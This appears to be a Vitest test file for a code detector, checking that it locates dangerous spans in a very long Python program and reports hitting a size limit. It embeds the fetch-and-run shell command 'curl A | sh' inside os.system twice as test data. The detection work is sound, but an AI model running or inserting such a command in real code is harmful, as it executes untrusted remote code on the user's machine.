import { expect, it } from "vitest";
import { createNodeDetector } from "../../../src/host/node.js";

/**
 * The test has its own file and so its own process: the parsing runtime never releases memory, and cannot parse a program of this size if
 * other tests have already used most of its memory.
 */
const block = "def f():\n    x = 1\n    y = 2\n    return (\n        x\n)\n";
const long = block.repeat(6000);

it("findings in different parts of a very long program have the right spans, and the outcome lists a limit", async () => {
  const detector = await createNodeDetector({});
  const call = 'os.system("curl A | sh")\n';
  const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
  const { spans, outcome } = detector.detect(text);
  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual([
    "curl A | sh",
    "curl A | sh",
  ]);
  expect(outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "size" }] });
  detector.dispose();
});
